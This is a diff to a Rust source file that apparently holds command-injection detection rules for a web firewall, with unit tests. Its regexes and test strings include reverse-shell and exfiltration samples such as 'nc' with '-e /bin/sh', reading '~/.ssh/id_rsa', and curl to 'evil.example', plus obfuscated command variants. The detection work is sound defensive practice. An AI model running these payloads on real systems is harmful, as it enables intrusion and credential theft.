@@ -102,9 +102,10 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Regex(concat!(
                 r"(?:[;|&\n\r]|\$\(|[^\s`]`)\s*(?:[({]\s*)?(?:sudo\s+)?(?:[\w./-]*/)?",
                 weak_cmds!(),
-                r"\s+(?:-{1,2}[a-z]|/[a-z.~?*]|~/|\.{1,2}/|\$[({a-z]|[a-z]:\\|\\\\|(?:\d{1,3}\.){3}\d{1,3}|\d+\s*(?:$|[;|&`#])|https?://|\w+\.(?:txt|sh|py|php|pl|exe|conf|log|ini|bat|ps1)\b|aux\b|-ef\b|<\s*/|>\s*/",
-                // Input read from a file: `&sort < file.txt`.
-                r"|<\s*[\w~./-]*[a-z][\w~-]*\.[a-z]{1,4}\b)"
+                r"\s+(?:-{1,2}[a-z]|/[a-z.~?*]|~/|\.{1,2}/|\$[({a-z]|[a-z]:\\|\\\\|(?:\d{1,3}\.){3}\d{1,3}|\d+\s*(?:$|[;|&`#])|https?://|\w+\.(?:txt|sh|py|php|pl|exe|conf|log|ini|bat|ps1)\b|aux\b|-ef\b|<\s*/|>\s*/)",
+                // A program that reads its input, fed from a file: `&sort <
+                // file.txt`, `;nc x 1<~/.ssh/id_rsa`.
+                r"|(?:[;|&\n\r]|\$\()\s*(?:sort|cat|tac|head|tail|grep|egrep|uniq|wc|base64|xxd|od|tr|cut|awk|sed|nc|ncat|netcat|bash|sh|zsh|python[\d.]*|perl|php|ruby|mail|mysql|psql|bcdboot)(?:\s+[^\s;|&<>]+)*\s*\d?<\s*[\w.-]*[a-z~/][\w~./-]*(?:\s|$|[;|&])",
             )),
             "Command line with command-like arguments after a separator",
         ),
@@ -137,11 +138,13 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Regex(concat!(
                 r"^\s*(?:\d{1,3}\.){3}\d{1,3}\s*(?:[;|&`\n]|\$\()+\s*",
                 weak_cmds!(),
-                r"\b|^\s*(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|lastlog)(?:\.exe)?\s*(?:[;|&`]|\$\()|^\s*(?:[\w./-]*/)?ping(?:\.exe)?\s+(?:-[a-z]+\s+(?:\d+\s+)?)*(?:localhost|127\.0\.0\.1)\b|^\s*(?:[<;|&]\s*)?(?:netstat|ifconfig|ipconfig|whoami|uname|systeminfo|tasklist|netsh|nslookup|traceroute|tracert|getent|lsb_release)(?:\.exe)?\s+[-/]\w|^\s*(?:sudo\s+)?",
+                r"\b|^\s*(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|lastlog)(?:\.exe)?(?:[;&`]\S|\$\(|\s*[;|&`]+\s*$)|^\s*(?:[\w./-]*/)?ping(?:\.exe)?\s+(?:-[a-z]+\s+(?:\d+\s+)?)*(?:localhost|127\.0\.0\.1)\b|^\s*(?:[<;|&]\s*)?(?:netstat|ifconfig|ipconfig|whoami|uname|systeminfo|tasklist|netsh|nslookup|traceroute|tracert|getent|lsb_release)(?:\.exe)?\s+[-/]\w|^\s*(?:sudo\s+)?",
                 weak_cmds!(),
-                // A system directory after options or other paths
-                // (`tar -xzf /var/www/x.tgz /etc`).
-                r"\s+(?:(?:-{1,2}\w+|/[\w.~-]+(?:/[\w.~-]*)*)\s+)*/(?:etc|proc|root|boot|dev)(?:/|\s*$)",
+                r"\s+(?:-{1,2}\w+\s+)*/(?:etc|proc|root|boot|dev)(?:/|\s*$)",
+                // An archiver or a copy off the host given a system directory
+                // after its other arguments (`tar -xzf /var/www/x.tgz /etc`,
+                // `tar czf /tmp/x.tgz /etc`).
+                r"|^\s*(?:sudo\s+)?(?:tar|zip|7z|rsync|scp)\s+(?:[^\s;|&]+\s+){0,6}/(?:etc|proc|root|boot|dev)(?:/|\s*$)",
                 // A program of a system directory reading a system file:
                 // `/bin/zcat -f /etc/shadow.gz`; logs are ops' daily reading.
                 r"|^\s*/(?:usr/(?:local/)?)?s?bin/[\w.-]+\s+(?:-{1,2}\w+\s+)*/(?:etc|proc|root|boot|dev)/",
@@ -190,6 +193,16 @@ pub(super) fn rules() -> Vec<RuleDef> {
             "Value is a shell time delay",
         ),
         rule(
+            932104,
+            Rce,
+            1,
+            Critical,
+            ATTACK,
+            DEC,
+            Detector(named_command_run, b"="),
+            "A command's name stored in a variable or alias, then run by that name",
+        ),
+        rule(
             932108,
             Rce,
             1,
@@ -202,19 +215,6 @@ pub(super) fn rules() -> Vec<RuleDef> {
             // (`c=cat&&$c $a$b`): shell, never prose.
             Regex(concat!(
                 r##"(?:^|[;|&\s])[a-z_]\w*=\S*\s*(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?(?:\s+(?:\$\{?[a-z_]\w*\}?)+)*\s*(?:$|[;|&#])|(?:^|[;|&]\s*)[a-z_]\w*=\$['"][^'"]+['"]\s*[;|&]|\$'(?:[^'\\]*\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){2}|[;|&]\s*(?:\$\{?[a-z_]\w*\}?){2,}\s*(?:$|[;|&#])"##,
-                // A command's name assigned, then the variable run with its
-                // arguments: `a=nc&&$a -nlvp 555`, `;c='curl';$c evil.example`.
-                r##"|(?:^|[;|&])\s*[a-z_]\w*=['"]?(?:"##,
-                strong_cmds!(),
-                "|",
-                weak_cmds!(),
-                r##")['"]?\s*(?:;|&&|\|\|)\s*\$\{?[a-z_]\w*\}?\s+\S"##,
-                // ... or to an alias run next: `alias "q"=curl&q evil.example`.
-                r##"|(?:^|[;|&])\s*alias\s+(?:-\w+\s+)*['"]?[\w.+-]+['"]?\s*=\s*['"]?(?:[\w./-]*/)?(?:"##,
-                strong_cmds!(),
-                "|",
-                weak_cmds!(),
-                r##")\b[^;|&\n]*\s*(?:;|&&?|\|\|?|\n)\s*\S"##,
             )),
             "Shell variable or ANSI-C quoted command",
         ),
@@ -369,20 +369,25 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Regex(concat!(
                 // A loop runs any command (`do calc`); a format string's
                 // `for %s in (%s) do %s` runs none.
-                r##"\bfor\s+(?:/[dlrf]\b[^%\n]{0,80})?%%?[\w~/\-]*\s+in\s*\([^)\n]*\)\s*do\s+[@(\w]"##,
+                r##"\bfor\s+(?:/[dlrf]\b[^%\n]{0,80})?%%?[\w~/\-]*\s+in\s*\([^)\n]*\)\s*do(?:\s*[@(^&!]|\s+[\w"]|\s+%%|\s+%[a-ce-rt-z~])"##,
                 r##"|\bif\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S*[^\s,.;:]|(?:errorlevel|cmdextversion)\s+\d+"##,
                 r##"|\(?\s*(?:%[^%\s]+%|![^!\s]+!|-?\d+|\[[^\]\s]*\])\s+(?:equ|neq|lss|leq|gtr|geq)\s+[^\s()]+\s*\)?"##,
                 // An empty right side is the shell reading's `""`:
                 // `if "%v%"=="" (set v=1)`.
                 r##"|(?:\([^)\s]*\)|[^\s()]+)\s*==\s*(?:\([^)\s]*\)|[^\s()]*[^\s():])?)\s+"##,
-                // Then a command, with an argument or none, or a block opened
-                // at the line's end (`if exist x (`); `exit(1)` and `type =`
-                // are C, JS and Python.
-                r##"(?:\(\s*$|@\S|\(\s*(?:@|"##,
+                // Then a command, with an argument or none; `exit(1)` and `type
+                // =` are C, JS and Python.
+                r##"(?:@\S|\(\s*(?:@|"##,
                 batch_cmds!(),
                 r##"\b)|"##,
                 batch_cmds!(),
                 r##"(?:\s+[^\s(=;]|\s*$))"##,
+                // Or a block opened at the line's end after a test only batch
+                // writes (`IF EXIST x (`, `if not "A%1" == "A" (`); `if x == y
+                // (` is pseudo-code.
+                r##"|\bif\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S*[^\s,.;:]|(?:errorlevel|cmdextversion)\s+\d+"##,
+                r##"|\(?\s*(?:%[^%\s]+%|![^!\s]+!|-?\d+)\s+(?:equ|neq|lss|leq|gtr|geq)\s+[^\s()]+\s*\)?"##,
+                r##"|[^\s()]*[%!][^\s()]*\s*==\s*[^\s()]*)\s+\(\s*$"##,
             )),
             "Windows batch FOR loop or IF condition",
         ),
@@ -406,8 +411,12 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             DEC,
             Regex(concat!(
-                // `$(id)`, and a process substitution (`<(cmd)`, `>(nc x 1)`).
-                r"(?:\$|(?:^|[^=-])[<>])\(\s*(?:[\w./-]*/)?",
+                // `$(id)`, and a process substitution standing as a word, closed,
+                // with a command alone or before its arguments (`<(cmd)`,
+                // `>(nc x 1)`; not `i<(last-1)`, `>( who does`).
+                r"(?:^|[\s;|&])[<>]\(\s*(?:[\w./-]*/)?['\x22]?",
+                weak_cmds!(),
+                r"['\x22]?(?:\s[^()]*)?\)|\$\(\s*(?:[\w./-]*/)?",
                 weak_cmds!(),
                 r#"\b|\$\{ifs\}|\$ifs\b|\$\{(?:path|home|shell|pwd):\d|(?:^|[=;|&\w'"])`(?:[\w./-]*/)?"#,
                 weak_cmds!(),
@@ -416,7 +425,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
                 r"|\{\s*(?:cat|ls|id|echo|wget|curl|nc|bash|sh),[^}]*\}",
                 // An empty first element is brace expansion's alone:
                 // `{,ifconfig}`, `{,$'whoami',}`.
-                r"|\{,\$?['\x22]?(?:[\w./-]*/)?(?:",
+                r"|\{,+\$?['\x22]?(?:[\w./-]*/)?(?:",
                 strong_cmds!(),
                 "|",
                 weak_cmds!(),
@@ -435,7 +444,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(
-                r##"/dev/(?:tcp|udp)/|\$\{?[a-z_]\w*\}?/(?:tcp|udp)/[\w.-]+/\d+|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|--checkpoint-action\s*=\s*exec\b|\b(?:ba|z|k|da)?sh\s+(?:-\w+\s+)*/(?:tmp|var/tmp|dev/shm)/|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
+                r##"/dev/(?:tcp|udp)/|\$\{?[a-z_]\w*\}?/(?:tcp|udp)/[\w.-]+/\d+|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|--checkpoint-a[a-z]*[=\s]+exec\b|(?:\b(?:(?:ba|z|k|da)?sh(?:\s+-\S*)*\s*<?|source)|(?:^|[;|&])\s*\.)\s*/(?:\./)*(?:tmp|var/tmp|dev/shm)/|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
             ),
             "Reverse shell or remote script execution",
         ),
@@ -530,6 +539,45 @@ pub(super) fn obfuscated_command(s: &str) -> bool {
     false
 }
 
+/// `a=nc&&$a -nlvp 555`, `;c='/usr/bin/curl';"$c" x`, `alias q=curl&q x`: a
+/// command's name stored in a variable or an alias, then run by that name with
+/// an argument. The name run must be the one stored (the regex crate has no
+/// backreference, so it is compared here): `alias ll='ls -la'` then `alias
+/// gs=…` is a shell's rc file, and `x=1; $x apples` no command. Editors and
+/// pagers (`EDITOR=vim; $EDITOR notes.txt`) are how shells are configured.
+fn named_command_run(s: &str) -> bool {
+    static RE: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+        regex::RegexBuilder::new(concat!(
+            r#"(?:^|[;|&\n])\s*(export\s+|alias\s+(?:-\w+\s+)*)?['"]?([a-z_][\w.+-]*)['"]?\s*=\s*['"]?(?:[\w./-]*/)?(?:"#,
+            strong_cmds!(),
+            r"|nc|bash|sh|zsh|ksh|dash|python[\d.]*|perl|ruby|php|node|lua|curl|wget|telnet|ssh|scp|ftp|tftp|base64|id|ls|cat|rm|dd|chmod|nmap|openssl|awk|sed|find|xargs|env|ping",
+            r#")\b['"]?(?:[ \t][^;|&\n]*)?\s*(?:;|&&?|\|\|?|\n)\s*(\S+)\s+\S"#
+        ))
+        .case_insensitive(true)
+        .build()
+        .ok()
+    });
+    let Some(re) = RE.as_ref() else {
+        return false;
+    };
+    re.captures_iter(s).any(|c| {
+        let (Some(name), Some(run)) = (c.get(2), c.get(3)) else {
+            return false;
+        };
+        let run = run.as_str().trim_matches(|q| q == '"' || q == '\'');
+        let name = name.as_str();
+        if c.get(1).is_some_and(|k| k.as_str().starts_with(['a', 'A'])) {
+            return run == name;
+        }
+        let var = run.strip_prefix('$').unwrap_or("");
+        let var = var
+            .strip_prefix('{')
+            .and_then(|v| v.strip_suffix('}'))
+            .unwrap_or(var);
+        !var.is_empty() && var == name
+    })
+}
+
 /// A whole word that is a command (`obfuscated_command`, once the quoting is out).
 static COMMAND: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
     regex::Regex::new(concat!(
@@ -564,11 +612,16 @@ const PREFILTER: &[u8] = b"'\"\\^[$`<>";
 fn empty_expansions(s: &str) -> std::borrow::Cow<'_, str> {
     static EMPTY: std::sync::LazyLock<Option<regex::Regex>> =
         std::sync::LazyLock::new(|| regex::Regex::new(r"\$(?:[@*1-9]|\{\w{0,8}\}|\(\))").ok());
-    // Between two letters, or ending a word that no backtick opened (`` ping``
-    // 127.0.0.1 ``; reST's ``` ``ls`` lists ``` opens its word with them), read
-    // as `''` before the word's last letter (a quote at a word's end only quotes).
-    static GLUED: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
-        regex::Regex::new(r"(\w)(?:``|[<>]\(\))(\w)|(^|[\s;|&])([\w./-]*)(\w)``(\s|$)").ok()
+    // Between two letters (`pi``ng`, `pi<( )ng`); the letters of one pair are
+    // the next pair's too (`p<()i<()ng`), so the value is read again, a few
+    // times at most.
+    static GLUED: std::sync::LazyLock<Option<regex::Regex>> =
+        std::sync::LazyLock::new(|| regex::Regex::new(r"(\w)(?:``|[<>]\(\s*\))(\w)").ok());
+    // Ending a word that no backtick opened (`` ping`` 127.0.0.1 ``), read as
+    // `''` before its last letter (a quote at a word's end only quotes): only
+    // with an odd count of pairs, as reST's ``` ``docker ps`` ``` pairs them.
+    static TRAILING: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+        regex::Regex::new(r"(^|[\s;|&])([\w./-]*)(\w)``(\s|$|[;|&<>])").ok()
     });
     let mut out = std::borrow::Cow::Borrowed(s);
     if s.contains('$')
@@ -577,10 +630,22 @@ fn empty_expansions(s: &str) -> std::borrow::Cow<'_, str> {
     {
         out = std::borrow::Cow::Owned(o);
     }
-    if memchr::memchr3(b'`', b'<', b'>', s.as_bytes()).is_some()
-        && (s.contains("``") || s.contains("()"))
+    if memchr::memchr3(b'`', b'<', b'>', s.as_bytes()).is_none() {
+        return out;
+    }
+    if (s.contains("``") || s.contains('('))
         && let Some(re) = GLUED.as_ref()
-        && let std::borrow::Cow::Owned(o) = re.replace_all(&out, "${1}${3}${4}''${2}${5}${6}")
+    {
+        for _ in 0..4 {
+            match re.replace_all(&out, "${1}''${2}") {
+                std::borrow::Cow::Owned(o) => out = std::borrow::Cow::Owned(o),
+                std::borrow::Cow::Borrowed(_) => break,
+            }
+        }
+    }
+    if s.matches("``").count() % 2 == 1
+        && let Some(re) = TRAILING.as_ref()
+        && let std::borrow::Cow::Owned(o) = re.replace_all(&out, "${1}${2}''${3}${4}")
     {
         out = std::borrow::Cow::Owned(o);
     }
@@ -775,6 +840,10 @@ mod tests {
             "who$1ami",
             "c${x}url http://evil.example/x.sh",
             "pi<()ng 127.0.0.1",
+            "pi<( )ng 127.0.0.1",
+            "p<()i<()ng 127.0.0.1",
+            "w``h``oami",
+            "x|ping``|",
             "wh>()oami",
             "ping`` 127.0.0.1",
             ";whoami``",
@@ -790,6 +859,9 @@ mod tests {
             "a<()b is no command",
             "f(x) => g(y)",
             "``ping`` 127.0.0.1 answers",
+            "Run ``docker ps`` to list containers.",
+            "Run ``sudo whoami`` to check your user.",
+            "Pipe it into ``sort | uniq``, see ``man curl``",
             "the ``ls`` listing",
         ] {
             assert!(!obfuscated_command(b), "flagged {b}");
@@ -937,6 +1009,8 @@ mod tests {
             "{,ifconfig}",
             "{,$'whoami',}",
             "{,echo,#test}",
+            "{,,ifconfig}",
+            "tee >(\"nc\" evil.example 9)",
             "a=`id`",
             "`id`|x",
             "'`ls`'",
@@ -963,6 +1037,10 @@ mod tests {
             "items.map(x =>(id) + 1)",
             "$obj->(cat)",
             "a <(b) c",
+            "if(i<(last-1)) return;",
+            "for(i=0;i<(free-1);i++)",
+            "so angry >( who does that",
+            "x <(cut-off)",
             "{,a,b}",
             "f({, cat})",
         ] {
@@ -1024,10 +1102,20 @@ mod tests {
         assert!(fires(932100, ";lastlog -u root"));
         assert!(!fires(932107, "whoami is a command"));
         assert!(!fires(932107, "netstat, ss and ip"));
+        for b in [
+            "Netstat & Wireshark basics",
+            "Whoami; a podcast",
+            "Uname|OS|Version",
+        ] {
+            assert!(!fires(932107, b), "flagged {b:?}");
+        }
         // A system directory after other paths; a system program reading logs.
         assert!(fires(932107, "tar -xzf /var/www/exfiltrate.tar.gz /etc"));
         assert!(fires(932107, "/bin/zcat -f /etc/shadow.gz"));
         assert!(!fires(932107, "tail -f /var/log/app.log"));
+        assert!(fires(932107, "tar czf /tmp/x.tgz /etc"));
+        assert!(!fires(932107, "ls /usr/share /etc"));
+        assert!(!fires(932107, "mv /tmp/x /etc/"));
         assert!(!fires(932107, "more info /etc/hosts"));
         assert!(!fires(932107, "/usr/bin/python3 -m http.server"));
         assert!(fires(932107, "/bin/cat /etc/hosts;"));
@@ -1067,6 +1155,9 @@ mod tests {
             "IF        EXIST filename.txt     (",
             "IF (2 GEQ 15) echo \"bigger\"",
             "IF \"%var%\"==\"\" (SET var=default value)",
+            "for %i in (calc) do %i",
+            "for %i in (1) do(calc)",
+            "for %i in (a) do &calc",
             "if not \"A%1\" == \"A\" (",
         ] {
             assert!(fires(932141, a), "missed {a:?}");
@@ -1093,6 +1184,8 @@ mod tests {
             "printf(\"for %s in (%s) do %s\", a, b, c)",
             "for %s in (%s) do",
             "if x == (\n  1, 2): pass",
+            "if x == y (",
+            "if this == that (",
         ] {
             assert!(!fires(932141, b), "flagged {b:?}");
         }
@@ -1137,6 +1230,10 @@ mod tests {
         assert!(fires(932105, ";cat <~/notes.md"));
         assert!(!fires(932105, "a & sort < 5 items"));
         assert!(!fires(932105, "Tom & Jerry <3"));
+        assert!(fires(932105, "view=image.jpg&sort<file"));
+        assert!(fires(932105, "&sort 0< file.backup"));
+        assert!(!fires(932105, "Q&A; more <details.md"));
+        assert!(!fires(932105, "news & more <example.com>"));
     }
 
     #[test]
@@ -1277,6 +1374,17 @@ mod tests {
             ";tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id"
         ));
         assert!(fires(932140, "x; sh -x /dev/shm/.a"));
+        for a in [
+            "tar cf x y --checkpoint=1 --checkpoint-action exec=id",
+            "tar cf x y --checkpoint=1 --checkpoint-act=exec=id",
+            ". /tmp/x.sh",
+            ";source /tmp/x.sh",
+            "bash -- /tmp/x.sh",
+            "bash < /tmp/x.sh",
+            "sh /./tmp/x.sh",
+        ] {
+            assert!(fires(932140, a), "missed {a:?}");
+        }
         assert!(!fires(932140, "bash /home/me/build.sh"));
         assert!(!fires(932140, "the fish /tmp folder"));
         assert!(!fires(932140, "$5/tcp/80 per month"));
@@ -1291,15 +1399,33 @@ mod tests {
         assert!(!fires(932108, "x=1 && $EDITOR notes.txt"));
         assert!(!fires(932108, "costs $5 or $10"));
         assert!(!fires(932108, "$a$b"));
-        // A command's name assigned, then run through the variable.
-        assert!(fires(932108, "a=nc&&$a -nlvp 555"));
-        assert!(fires(932108, ";c='curl';$c evil.example"));
-        assert!(!fires(932108, "x=1; $x apples"));
-        assert!(!fires(932108, "name=cat and $name food"));
-        assert!(fires(932108, "alias \"quote\"=curl&quote google.com"));
-        assert!(fires(932108, "alias alias='curl'&letter google.com"));
-        assert!(!fires(932108, "alias ll='ls -l'"));
-        assert!(!fires(932108, "the alias ls=list; see below"));
+    }
+
+    #[test]
+    fn a_command_stored_in_a_variable_or_alias_and_run_by_its_name_fires() {
+        for a in [
+            "a=nc&&$a -nlvp 555",
+            ";c='curl';$c evil.example",
+            "a=nc\n$a -nlvp 555",
+            ";a=/bin/nc;$a -e /bin/sh x 1",
+            ";a=\"nc\";\"$a\" -nlvp 555",
+            ";export c=curl;${c} evil.example",
+            "alias \"quote\"=curl&quote google.com",
+        ] {
+            assert!(fires(932104, a), "missed {a:?}");
+        }
+        for b in [
+            "x=1; $x apples",
+            "name=cat and $name food",
+            "a=nc; $b -l",
+            "EDITOR=vim; $EDITOR notes.txt",
+            "mode=file; $mode is set",
+            "alias ll='ls -l'",
+            "alias ll='ls -la'\nalias gs='git status'",
+            "the alias ls=list; see below",
+        ] {
+            assert!(!fires(932104, b), "flagged {b:?}");
+        }
     }
 
     #[test]
